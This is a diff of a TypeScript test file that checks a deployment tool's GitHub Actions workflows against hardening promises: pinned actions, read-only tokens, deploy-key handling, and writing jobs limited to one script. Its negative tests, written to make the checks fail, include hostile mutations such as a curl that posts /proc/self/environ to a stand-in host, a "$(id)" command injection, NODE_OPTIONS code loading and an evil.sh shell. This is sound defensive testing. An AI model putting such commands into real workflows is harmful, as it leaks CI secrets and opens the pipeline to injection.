@@ -1,8 +1,11 @@
-// Both workflows keep GitHub's hardening guidance: actions pinned to verified commit SHAs,
+// Every workflow keeps GitHub's hardening guidance: actions pinned to verified commit SHAs,
 // checkouts that leave no token behind, the pull request's code only in read-only jobs, no
-// expression pasted into a script, and apply's deploy key on disk only around the apply step. The
-// review comment is computed by the base branch's fortress in a job that runs no code from the pull
-// request. Each check is also shown failing on a workflow that breaks its promise.
+// expression pasted into a script, and the deploy key on disk only around the step that uses it
+// (apply's, drift's status). The review comment is computed by the base branch's fortress in a job
+// that runs no code from the pull request. In apply.yml and drift.yml, which run on the default
+// branch only, the jobs that write (the pull-request comment, the drift issue) run nothing but a
+// script of scripts/github, next to no npm, fortress, environment or secret. Each check is also
+// shown failing on a workflow that breaks its promise.
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, test } from 'vitest';
@@ -13,15 +16,19 @@ import {
   checkoutsKeepingCredentials,
   codeInWritingJobs,
   codeRunBy,
+  defaultBranchSecurityProblems,
   deployKeyProblems,
   effectivePermissions,
   expressionsInScripts,
+  nonDefaultBranchEvents,
   parseWorkflow,
   reviewJobProblems,
   securityProblems,
   unpinnedActions,
   verifiedPins,
   workflowWidePermissions,
+  writingJobProblems,
+  type KeyUser,
   type Step,
   type Workflow,
 } from './securityPromises.js';
@@ -29,6 +36,10 @@ import {
 const workflowsDir = new URL('../../.github/workflows/', import.meta.url).pathname;
 const reviewText = readFileSync(join(workflowsDir, 'review.yml'), 'utf8');
 const applyText = readFileSync(join(workflowsDir, 'apply.yml'), 'utf8');
+const driftText = readFileSync(join(workflowsDir, 'drift.yml'), 'utf8');
+const templateText = (file: string) => readFileSync(new URL(`../../src/init/templates/${file}`, import.meta.url), 'utf8');
+/** drift.yml's status step, the one that uses the deploy key there. */
+const statusKeyUser: KeyUser = { name: 'status', runs: 'node dist/cli/main.js status ' };
 
 /** A changed copy of a workflow, written back as YAML (comments are not kept). */
 function changed(text: string, change: (workflow: Workflow) => void): Workflow {
@@ -38,11 +49,18 @@ function changed(text: string, change: (workflow: Workflow) => void): Workflow {
 }
 
 describe.each([
-  ['review.yml', reviewText],
-  ['apply.yml', applyText],
-])('%s', (_file, text) => {
+  // Runs a pull request's code: nothing from the repository may run where the token can write.
+  ['review.yml', reviewText, securityProblems],
+  // Run the default branch's code only: a job that writes may run a script of scripts/github.
+  ['apply.yml', applyText, defaultBranchSecurityProblems],
+  ['drift.yml', driftText, defaultBranchSecurityProblems],
+  // What `fortress init` writes keeps the same promises.
+  ['init: review.yml', templateText('review.yml'), securityProblems],
+  ['init: apply.yml', templateText('apply.yml'), defaultBranchSecurityProblems],
+  ['init: drift.yml', templateText('drift.yml'), defaultBranchSecurityProblems],
+])('%s', (_file, text, promises) => {
   test('keeps every promise', () => {
-    expect(securityProblems(text)).toEqual([]);
+    expect(promises(text)).toEqual([]);
   });
 
   test('pins every action to a verified commit SHA, with its release tag in a comment', () => {
@@ -165,6 +183,62 @@ describe('apply.yml: the deploy key', () => {
   test('the job can only read the repository', () => {
     expect(apply.permissions).toEqual({});
     expect(apply.jobs.apply!.permissions).toEqual({ contents: 'read' });
+  });
+});
+
+describe('apply.yml and drift.yml: the token that writes sits next to nothing but a script of scripts/github', () => {
+  const workflows = { 'apply.yml': parseWorkflow(applyText), 'drift.yml': parseWorkflow(driftText) };
+
+  test('run only on the default branch: push to main, a schedule, by hand', () => {
+    for (const workflow of Object.values(workflows)) expect(nonDefaultBranchEvents(workflow)).toEqual([]);
+    expect(Object.keys(workflows['apply.yml'].on)).toEqual(['push']);
+    expect(Object.keys(workflows['drift.yml'].on)).toEqual(['schedule', 'workflow_dispatch']);
+  });
+
+  test('one job of each can write, one scope each; the jobs with the deploy key can only read', () => {
+    const writing = Object.entries(workflows).flatMap(([file, workflow]) =>
+      Object.entries(workflow.jobs)
+        .filter(([, job]) => canWrite(effectivePermissions(workflow, job)))
+        .map(([name, job]) => [`${file} ${name}`, job.permissions]),
+    );
+    expect(writing).toEqual([
+      ['apply.yml comment', { contents: 'read', 'pull-requests': 'write' }],
+      ['drift.yml issue', { contents: 'read', issues: 'write' }],
+    ]);
+    for (const [file, job] of [['apply.yml', 'apply'], ['drift.yml', 'status']] as const) {
+      expect(workflows[file].jobs[job]!.environment, file).toBe('production');
+      expect(workflows[file].jobs[job]!.permissions, file).toEqual({ contents: 'read' });
+    }
+  });
+
+  test('the writing jobs check out scripts/github alone and run one script of it, which exists', () => {
+    for (const workflow of Object.values(workflows)) {
+      expect(writingJobProblems(workflow)).toEqual([]);
+      for (const job of Object.values(workflow.jobs).filter((j) => canWrite(effectivePermissions(workflow, j)))) {
+        const runs = job.steps.filter((s) => typeof s.run === 'string').map((s) => s.run!);
+        expect(runs).toHaveLength(1);
+        expect(codeRunBy(job)).toEqual(['checks out the repository', `runs a script (${runs[0]})`]);
+        const script = /^node (scripts\/github\/\w+\.mjs) /.exec(runs[0]!)![1]!;
+        expect(readFileSync(new URL(`../../${script}`, import.meta.url), 'utf8')).toMatch(/^#!\/usr\/bin\/env node\n/);
+      }
+    }
+  });
+});
+
+describe('drift.yml: the deploy key', () => {
+  const drift = parseWorkflow(driftText);
+
+  test('is a secret of the production environment, on disk only around status, gone before any upload', () => {
+    expect(deployKeyProblems(drift, 'status', statusKeyUser)).toEqual([]);
+    // The same two steps as apply.yml's, word for word.
+    const keySteps = (workflow: Workflow, job: string) => workflow.jobs[job]!.steps.filter((s) => s.name === 'SSH key' || s.name === 'Remove the SSH key');
+    expect(keySteps(drift, 'status')).toEqual(keySteps(parseWorkflow(applyText), 'apply'));
+    expect(driftText).toMatch(/FORTRESS_SSH_PRIVATE_KEY, is a secret of this environment/);
+  });
+
+  test('and in the workflows `fortress init` writes, around the pinned fortress', () => {
+    expect(deployKeyProblems(parseWorkflow(templateText('drift.yml')), 'status', { name: 'status', runs: 'npx --no-install fortress status ' })).toEqual([]);
+    expect(deployKeyProblems(parseWorkflow(templateText('apply.yml')), 'apply', { name: 'apply', runs: 'npx --no-install fortress apply ' })).toEqual([]);
   });
 });
 
@@ -314,5 +388,90 @@ describe('each check fails when its promise breaks', () => {
     expect(deployKeyProblems(changed(applyText, (w) => (steps(w).find((s) => s.env?.FORTRESS_SSH_PRIVATE_KEY)!.run = 'printf "%s" "$FORTRESS_SSH_PRIVATE_KEY" > k')))).toEqual([
       'the key is written without umask 077',
     ]);
+  });
+  test('a writing workflow that runs on pull requests', () => {
+    expect(nonDefaultBranchEvents(changed(driftText, (w) => ((w.on as Record<string, unknown>).pull_request = null)))).toEqual([
+      'the workflow runs on pull_request, not only on push, schedule, workflow_dispatch',
+    ]);
+    expect(defaultBranchSecurityProblems(applyText.replace('on:\n  push:', 'on:\n  pull_request_target:\n  push:'))).toEqual([
+      'the workflow runs on pull_request_target, not only on push, schedule, workflow_dispatch',
+    ]);
+  });
+
+  test('more than a script of scripts/github in a job that writes', () => {
+    const issue = (change: (job: Workflow['jobs'][string]) => void) => writingJobProblems(changed(driftText, (w) => change(w.jobs.issue!)));
+    const comment = (change: (job: Workflow['jobs'][string]) => void) => writingJobProblems(changed(applyText, (w) => change(w.jobs.comment!)));
+    const run = (job: Workflow['jobs'][string]) => job.steps.find((s) => typeof s.run === 'string')!;
+    const other = 'runs something other than node scripts/github/<script>.mjs ("$ARGUMENT"…)';
+
+    // npm, fortress, or more after the script.
+    expect(issue((job) => job.steps.splice(1, 0, { run: 'npm ci' }))).toEqual([`jobs.issue can write and mentions npm`, `jobs.issue.steps[1] ${other}: npm ci`]);
+    expect(issue((job) => (run(job).run = 'node dist/cli/main.js status --format markdown'))).toEqual([`jobs.issue.steps[2] ${other}: node dist/cli/main.js status --format markdown`]);
+    expect(comment((job) => (run(job).run = `${run(job).run!}; curl -d @/proc/self/environ https://x.example`))).toHaveLength(1);
+    expect(comment((job) => (run(job).run = 'node scripts/github/../../dist/cli/main.js apply'))).toHaveLength(1);
+    expect(comment((job) => (run(job).run = 'node scripts/github/applyComment.mjs "$(id)"'))).toHaveLength(1);
+    // Actions that run code or set it up.
+    expect(issue((job) => job.steps.unshift({ uses: 'actions/setup-node@49933ea5288caeca8642d1e84afbd3f7d6820020', with: { 'node-version': 20 } }))).toEqual([
+      'jobs.issue.steps[0] can write and uses actions/setup-node',
+    ]);
+    expect(comment((job) => job.steps.push({ uses: './.github/actions/post' }))).toEqual(['jobs.comment.steps[3] can write and uses ./.github/actions/post']);
+    expect(comment((job) => job.steps.push({ uses: 'actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea', with: { script: 'x' } }))).toEqual([
+      'jobs.comment.steps[3] can write and uses actions/github-script',
+    ]);
+    // The whole repository, another ref, or the token left behind.
+    expect(issue((job) => delete job.steps[0]!.with!['sparse-checkout'])).toEqual(['jobs.issue.steps[0] checks out more than scripts/github']);
+    expect(issue((job) => (job.steps[0]!.with!['sparse-checkout-cone-mode'] = true))).toEqual(['jobs.issue.steps[0] checks out more than scripts/github']);
+    expect(comment((job) => (job.steps[0]!.with!.ref = '${{ github.head_ref }}'))).toEqual(["jobs.comment.steps[0] checks out @${{ github.head_ref }}, not this run's commit"]);
+    expect(defaultBranchSecurityProblems(driftText.replace('sparse-checkout-cone-mode: false\n          persist-credentials: false', 'sparse-checkout-cone-mode: false'))).toEqual([
+      'jobs.issue.steps[0]: actions/checkout without persist-credentials: false',
+    ]);
+    // The deploy key's environment or a secret, what makes node load other code, another shell or directory.
+    expect(issue((job) => (job.environment = 'production'))).toEqual(['jobs.issue can write and runs in an environment']);
+    expect(comment((job) => (run(job).env!.KEY = '${{ secrets.FORTRESS_SSH_PRIVATE_KEY }}'))).toEqual(['jobs.comment can write and reads a secret']);
+    expect(comment((job) => (run(job).env!.NODE_OPTIONS = '--require ./x.cjs'))).toEqual(['jobs.comment.steps[2] sets NODE_OPTIONS']);
+    expect(issue((job) => (job.env = { NODE_OPTIONS: '--import ./x.mjs' }))).toEqual(['jobs.issue can write and sets NODE_OPTIONS for every step']);
+    expect(issue((job) => (run(job).shell = 'bash ./evil.sh {0}'))).toEqual(['jobs.issue.steps[2] sets its own shell']);
+    expect(issue((job) => (run(job)['working-directory'] = 'elsewhere'))).toEqual(['jobs.issue.steps[2] sets a working directory']);
+    expect(issue((job) => (job.defaults = { run: { shell: 'sh' } }))).toEqual(['jobs.issue can write and sets a default shell or directory']);
+  });
+
+  test('write access next to the deploy key, npm and fortress', () => {
+    const withIssues = changed(driftText, (w) => (w.jobs.status!.permissions = { contents: 'read', issues: 'write' }));
+    expect(writingJobProblems(withIssues)).toEqual([
+      'jobs.status can write and runs in an environment',
+      'jobs.status can write and reads a secret',
+      'jobs.status can write and mentions npm',
+      'jobs.status.steps[0] checks out more than scripts/github',
+      'jobs.status.steps[1] can write and uses actions/setup-node',
+      `jobs.status.steps[2] runs something other than node scripts/github/<script>.mjs ("$ARGUMENT"…): npm ci`,
+      expect.stringMatching(/^jobs\.status\.steps\[3\] runs something other .*: \(umask 077/),
+      expect.stringMatching(/^jobs\.status\.steps\[4\] runs something other .*: code=0$/),
+      expect.stringMatching(/^jobs\.status\.steps\[5\] runs something other .*: rm -f/),
+      expect.stringMatching(/^jobs\.status\.steps\[6\] runs something other .*: cat/),
+      'jobs.status.steps[7] can write and uses actions/upload-artifact',
+    ]);
+    // With no permissions anywhere, every job gets the repository's default token, which may write.
+    const byDefault = changed(applyText, (w) => {
+      delete w.permissions;
+      delete w.jobs.apply!.permissions;
+    });
+    expect(defaultBranchSecurityProblems(stringify(byDefault))).toEqual(expect.arrayContaining([expect.stringMatching(/no top-level permissions/), 'jobs.apply can write and runs in an environment']));
+  });
+
+  test("drift.yml's key uploaded with the report, kept after a failed status, outside production, or written before npm ci", () => {
+    const steps = (w: Workflow) => w.jobs.status!.steps;
+    const removalIndex = (w: Workflow) => steps(w).findIndex((s) => s.run?.startsWith('rm -f'));
+    const problems = (change: (w: Workflow) => void) => deployKeyProblems(changed(driftText, change), 'status', statusKeyUser);
+
+    expect(problems((w) => steps(w).push(steps(w).splice(removalIndex(w), 1)[0]!))).toEqual([
+      'the key is not removed right after status',
+      expect.stringMatching(/^jobs\.status\.steps\[\d\] uploads an artifact while the key is on disk$/),
+    ]);
+    expect(problems((w) => delete steps(w)[removalIndex(w)]!.if)).toEqual(['the key removal does not run if: always()']);
+    expect(problems((w) => delete w.jobs.status!.environment)).toEqual(['jobs.status does not run in the production environment']);
+    expect(problems((w) => steps(w).splice(2, 0, steps(w).splice(3, 1)[0]!))).toEqual(['the key is not written right before status']);
+    expect(problems((w) => (steps(w).find((s) => s.id === 'status')!.env!.FORTRESS_SSH_PRIVATE_KEY = '${{ secrets.FORTRESS_SSH_PRIVATE_KEY }}'))).toContain(
+      'the secret reaches more than the one step that writes the key',
+    );
   });
 });
